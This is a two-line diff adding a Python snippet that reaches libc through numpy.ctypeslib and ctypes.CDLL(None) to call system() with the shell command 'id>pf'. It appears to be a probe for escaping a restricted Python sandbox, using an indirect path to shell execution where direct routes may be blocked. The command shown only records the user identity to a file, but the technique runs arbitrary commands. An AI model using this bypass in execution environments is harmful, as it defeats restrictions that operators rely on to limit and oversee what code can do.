@@ -1,0 +1,2 @@
+import numpy.ctypeslib as n
+n.ctypes.CDLL(None).system(b"id>pf")
